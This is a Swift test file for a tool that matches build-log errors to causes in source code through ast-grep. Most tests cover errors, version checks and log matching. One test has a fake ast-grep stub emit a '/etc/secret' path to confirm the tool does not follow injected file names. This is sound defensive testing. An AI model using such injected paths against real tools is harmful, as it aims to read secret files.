  /// The scan starts again on the file that was begun last, to find the file at which ast-grep stops.
  @Test func `a name of a file starts ast-grep on nothing outside`() throws {
    var project = try Project(["Room.swift": "Bulb()\n"])
    defer { project.folder.remove() }
    try project.replaceAstGrep(
      by: """
        echo "$@" >>"\(project.folder.path("calls"))"
        case "$*" in *--version*) echo ast-grep 1.0.0; exit 0;; esac
        echo 'sg: entity|file|Room.swift: language=Swift' >&2
        echo 'sg: entity|file|/etc/secret: language=Swift' >&2
        kill -ABRT $$
        """)
    let run = try project.scan()
    #expect(run.status == 2 && !run.errors.contains("/etc/secret"), "\(run.errors)")
    #expect(!project.folder.read("calls").contains("/etc/secret"))
  }

  // MARK: - The program

  @Test func `without ast-grep it says how to get it, and all else works`() throws {
    var project = try Project(["Room.swift": "Bulb()\n"])
    defer { project.folder.remove() }
    project.path = "/usr/bin:/bin"
    let run = try project.scan()
    #expect(run.status == 2 && run.output.isEmpty)
    #expect(run.errors.contains("ast-grep, which isn't on your PATH") && run.errors.contains("brew install ast-grep"))
    let trees = ["--trees", "trees"]
    #expect(try project.run(["walk", "lamp", "--answers", "no"] + trees).status == 0)
    #expect(try project.run(["search", "bulb"] + trees).status == 0)
    #expect(try project.run(["walk", "lamp", "--answers", "no", "--sources", "App"] + trees).status == 2)
  }

  @Test func `an ast-grep that is too old is told so`() throws {
    var project = try Project(["Room.swift": "Bulb()\n"])
    defer { project.folder.remove() }
    try project.replaceAstGrep(
      by: #"if [ "$3" = --version ]; then echo ast-grep 0.9.1; else echo "error: unexpected argument" >&2; exit 2; fi"#)
    let run = try project.scan()
    #expect(
      run.status == 2 && run.errors == "diagnostree: error: ast-grep 0.9.1 is too old. Install version 0.39 or later.\n"
    )
  }

  @Test(arguments: [
    ("echo nonsense", "the program can't read its output: nonsense"), ("kill -2 $$", ""),
    ("kill -ABRT $$", "ast-grep failed: it crashed"), ("kill -9 $$", "ast-grep failed: it needs too much memory. "),
    ("[ $3 = --version ] && echo ast-grep 1.0.0 || exit 3", "it printed no reason, and its status is 3"),
  ])
  func `an ast-grep that fails is told so`(script: String, reason: String) throws {
    var project = try Project(["Room.swift": "Bulb()\n"])
    defer { project.folder.remove() }
    try project.replaceAstGrep(by: script)
    let run = try project.scan()
    #expect(run.output.isEmpty)
    // One that was stopped is as if Ctrl-C had been meant for us.
    #expect(run.status == (reason.isEmpty ? 130 : 2), "\(run.errors)")
    #expect(reason.isEmpty || run.errors.contains(reason), "\(run.errors)")
  }

  @Test func `each start of it names an empty configuration, since that of a folder can load a library`() throws {
    var project = try Project(["Room.swift": "Bulb()\n"])
    defer { project.folder.remove() }
    try project.replaceAstGrep(by: "echo \"$*\" >>'\(project.folder.path("started"))'; exit 3")
    #expect(try project.scan().status == 2)
    let starts = project.folder.read("started").split(separator: "\n")
    #expect(starts.count > 1 && starts.allSatisfy { $0.contains("--config /dev/null") }, "\(starts)")
    #expect(starts.contains { $0.hasSuffix("--version") })
  }

  @Test func `it is started by scan and sources alone`() throws {
    var project = try Project(["Room.swift": "Bulb()\n"])
    defer { project.folder.remove() }
    try project.replaceAstGrep(by: "touch '\(project.folder.path("started"))'; exit 3")
    let log = "App/Room.swift:1:1: error: Bulb x failed: no current\n"
    let others = [["walk", "lamp", "--answers", "no"], ["check"], ["list"], ["search", "-"], ["explain", "blown"]]
    for arguments in others {
      _ = try project.run(arguments + ["--trees", "trees"], input: log)
      #expect(!FileManager.default.fileExists(atPath: project.folder.path("started")), "\(arguments)")
    }
    _ = try project.scan()
    #expect(FileManager.default.fileExists(atPath: project.folder.path("started")))
  }

  // MARK: - In a walk, in a log

  @Test func `a walk shows the places of its cause, and the list of causes their number`() throws {
    let project = try Project(["Room.swift": "Bulb()\nBulb()\nWire(1)\n"])
    defer { project.folder.remove() }
    let trees = ["--trees", "trees", "--sources", "App"]
    let text = try project.run(["walk", "lamp", "--answers", "unclear,yes"] + trees)
    #expect(text.status == 0)
    #expect(text.output.contains("Matches in your sources\n"))
    #expect(text.output.contains("App/Room.swift:2:1"))
    let unsure = try project.run(["walk", "lamp"] + trees, input: "unsure\n")
    let causes = unsure.lines.filter { $0.contains("● ") }
    #expect(causes.first?.hasSuffix("  2 matches") == true, "\(causes)")
    #expect(!causes.dropFirst().contains { $0.contains("match") })
    let json = try project.run(["walk", "lamp", "--answers", "unclear,yes", "--format", "json"] + trees)
    #expect(json.output.components(separatedBy: "\"sign\": \"bare-bulb\"").count == 3)
    let report = project.folder.path("report.md")
    _ = try project.run(["walk", "lamp", "--answers", "yes", "--report", report] + trees)
    #expect(project.folder.read("report.md").contains("- `App/Room.swift:3:1` A long wire. `fuse/blown`"))
    let missing = try project.run(["walk", "lamp", "--answers", "no", "--trees", "trees", "--sources", "nowhere"])
    #expect(missing.status == 2 && missing.errors.contains("The program can't read 'nowhere'"))
  }

  @Test func `a hit of a log says where a sign of its cause is on the line that it names`() throws {
    let project = try Project(["Room.swift": "\nBulb()\nprint(1)\n"])
    defer { project.folder.remove() }
    let known = "/Users/ci/App/Room.swift:2:1: error: Bulb x failed: no current\r\n"
    let other = "App/Room.swift:3:1: error: Bulb x failed: no current\r\n"
    let arguments = ["search", "-", "--trees", "trees"]
    let sources = ["--sources", "App"]
    let run = try project.run(arguments + sources, input: other + known)
    #expect(
      run.lines.filter { $0.contains("match in your sources") } == ["   = match in your sources: App/Room.swift:2:1"])
    // Sources that are named from another folder are those that the log names whole.
    let beside = ["search", "-", "--trees", ".", "--sources", "../App"]
    #expect(
      try project.run(beside, input: known, in: "trees").output.contains("match in your sources: ../App/Room.swift:2:1")
    )
    let json = try project.run(arguments + sources + ["--format", "json"], input: known)
    #expect(json.output.contains("\"place\": {") && json.output.contains("\"sign\": \"bare-bulb\""))
    let without = try project.run(arguments + sources + ["--format", "json"], input: other)
    #expect(without.status == 0 && without.output.contains("\"place\": null"))
    #expect(try !project.run(arguments, input: known).output.contains("match in your sources"))
  }

  @Test func `a path of a log below the named sources leads there`() throws {
    let project = try Project(["Room.swift": "\nBulb()\nprint(1)\n", "Hall/Attic.swift": "\nBulb()\n"])
    defer { project.folder.remove() }
    let error = "error: Bulb x failed: no current"
    let log = "Room.swift:3:9: \(error)\nAttic.swift:2:1: \(error)\nNone.swift:3:1: \(error)\n"
    let run = try project.run(["search", "-", "--trees", "trees", "--sources", "App"], input: log)
    let places = run.lines.filter { $0.hasPrefix("  --> ") }
    #expect(
      places == [
        "  --> App/Room.swift:3:9  (log line 1)", "  --> App/Hall/Attic.swift:2:1  (log line 2)",
        "  --> None.swift:3:1  (log line 3)",
      ], "\(run.output)")
  }

  // MARK: - An app

  /// The faults of the planted app: the place of each, and its cause.
  private static func planted() throws -> [String: String] {
    let folder = Checkout.folder.appending(path: "Tests/Planted")
    let files = try #require(FileManager.default.enumerator(atPath: folder.path)).compactMap { $0 as? String }
    var faults: [String: String] = [:]
    for file in files where file.hasSuffix(".swift") {
      let lines = try Checkout.text("Tests/Planted/\(file)").components(separatedBy: "\n")
      for (index, line) in lines.enumerated() {
        guard let fault = line.components(separatedBy: "// fault: ").dropFirst().first else { continue }
        faults["Tests/Planted/\(file):\(index + 1)"] = fault
      }
    }
    return faults
  }

  @Test func `of ten faults in a small app it finds eight at least, and says nothing false`() throws {
    let faults = try Self.planted()
    #expect(faults.count == 10 && Set(faults.values).count == 10)
    let run = try diagnostree(
      "scan", "Tests/Planted", "--format", "json", environment: ["PATH": "\(AstGrep.folder):/usr/bin:/bin"])
    let list = try JSONSerialization.jsonObject(with: Data(run.output.utf8)) as? [String: Any]
    let places = try #require(list?["places"] as? [[String: Any]])
    let found = places.map { ("\($0["file"] ?? ""):\($0["line"] ?? "")", "\($0["cause"] ?? "")") }
    for (place, cause) in found { #expect(faults[place] == cause, "\(place): \(cause)") }
    #expect(Set(found.map(\.0)).count >= 8, "\(found.count)")
    // The walk to each cause shows the place; hints count there.
    for (place, cause) in faults {
      let address = try #require(Checkout.forest.addresses(named: cause).first)
      let way = try #require(Checkout.forest.way(to: address))
      let answers = way.steps.map(\.description).joined(separator: ",")
      let walk = try diagnostree(
        "walk", way.origin.tree, "--answers", answers, "--sources", "Tests/Planted",
        environment: ["PATH": "\(AstGrep.folder):/usr/bin:/bin"])
      #expect(walk.status == 0 && walk.output.contains("[\(cause)]"), "\(cause)")
      let text = walk.output.components(separatedBy: "Matches in your sources\n").last ?? ""
      #expect(text.contains(place), "\(cause): \(place)")
    }
  }
}
